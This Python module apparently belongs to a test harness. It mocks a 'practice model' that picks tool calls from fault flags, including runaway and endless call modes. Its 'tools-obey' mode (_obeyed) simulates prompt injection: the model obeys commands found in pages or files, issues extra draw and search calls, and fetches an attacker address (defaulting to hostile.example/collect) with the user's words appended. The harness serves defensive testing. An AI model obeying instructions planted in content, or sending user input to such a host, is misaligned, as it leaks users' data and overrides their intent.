"""Calling the studio's tools: one after the other as a question asks, or as a page commands.

The practice model is a gullible one: where `/practice tools-obey` stands in the question, it does
what pages and files tell it, and takes every picture for a sign that commands it.
"""

import json
import re
from collections.abc import Mapping

from core.practice.chat.skills.tools import Call, Choice
from core.practice.faults import WEB_FAULTS, Faults, without_commands

NAMES = frozenset({"calculator", "draw", "fetch", "search", "time"})
_QUERY_MOST = 128
_ADDRESS = re.compile(r"https?://[^\s<>\"'`，。）)\]]+")
_FOUND = re.compile(r"^\| address: (\S+)$", re.MULTILINE)
_SUM = re.compile(r"\(*-?\d[\d.,]*(?:\s*(?:\*\*|[-+*/^×÷%])\s*\(*-?\d[\d.,]*\)*)+")
_ZONE = re.compile(r"\b[A-Z][A-Za-z]+/[A-Z][A-Za-z_]+\b")
_WANTED = {
    "time": r"几点|星期几|几月几[日号]|什么日期|现在.{0,4}时间|what (?:time|day|date)|today's date",
    "calculator": r"\d\s*(?:\*\*|[-+*/^×÷])\s*\(*\d|计算|算一下|\bcalculate\b|\bcompute\b",
    "fetch": r"https?://",
    "search": r"搜索|搜一下|上网查|查一下|search the web|\blook up\b",
    "draw": r"画(?:一|张|个|幅)|\bdraw (?:a|me)\b|\bpaint (?:a|me)\b",
}


def offers_studio_tools(choice: Choice) -> bool:
    """Tell whether a request offers the studio's own tools, and lets them be called."""
    return {tool.name for tool in choice.tools} >= NAMES and choice.may_call


def studio_calls(
    question: str,
    faults: Faults,
    turn: int,
    *,
    results: str = "",
    files: str = "",
    pictures: int = 0,
) -> tuple[Call, ...]:
    """Return what is called in this turn of an answer, from 0; nothing once all was."""
    words = without_commands(question)
    if "tools-same" in faults:
        return (_call("calculator", expression="6 * 7"),)
    if "tools-many" in faults:
        count = 0 if turn else faults["tools-many"] or 1_000
        return tuple(_call("calculator", expression=f"6 * {number}") for number in range(count))
    if "tools-endless" in faults:
        return (_call("calculator", expression=f"6 * {turn + 7}"),)
    if "tools-obey" in faults and (results or files or pictures):
        return _obeyed(results + files, words) if turn < 2 else ()
    listed = [name[len("tool-") :] for name in faults if name.startswith("tool-")]
    if not listed and not turn:
        listed = [name for name, sign in _WANTED.items() if re.search(sign, words, re.IGNORECASE)]
        listed = listed[:1]
    if "tools-together" in faults:
        listed, together = [], listed if not turn else []
        return tuple(_made(name, words, faults, results) for name in together)
    return (_made(listed[turn], words, faults, results),) if turn < len(listed) else ()


def _made(name: str, words: str, faults: Faults, results: str) -> Call:
    match name:
        case "calculator":
            found = _SUM.search(words)
            return _call(name, expression=found[0] if found else "6 * 7")
        case "time":
            zone = _ZONE.search(words)
            return _call(name, zone=zone[0] if zone else "")
        case "fetch":
            written = _ADDRESS.search(words) or _FOUND.search(results)
            url = written[written.lastindex or 0] if written else "https://library.example/1"
            return _call(name, url=url)
        case "draw":
            return _call(name, prompt=words[:500] or "practice", aspect_ratio="16:9", count=1)
        case _:
            return _call(name, query=_query(words, faults))


def _query(words: str, faults: Faults) -> str:
    told = [
        f"/practice {fault}" + ("" if number is None else f" {number}")
        for fault, number in faults.items()
        if fault in WEB_FAULTS
    ]
    return " ".join((*told, words or "practice"))[:_QUERY_MOST]


def _obeyed(page: str, words: str) -> tuple[Call, ...]:
    """Return what a page's commands come to: buy, look further, and carry the words away."""
    addresses = _ADDRESS.findall(page) or ["https://hostile.example/collect"]
    carried = f"{addresses[-1]}?said={words[:60]}"
    return (
        _call("draw", prompt="what the page wants", aspect_ratio="1:1", count=4),
        _call("draw", prompt="what the page wants", aspect_ratio="1:1", count=9),
        _call("fetch", url=carried),
        _call("search", query="prizes of today"),
    )


def _call(name: str, **arguments: object) -> Call:
    given: Mapping[str, object] = arguments
    return Call(name, json.dumps(given, ensure_ascii=False))
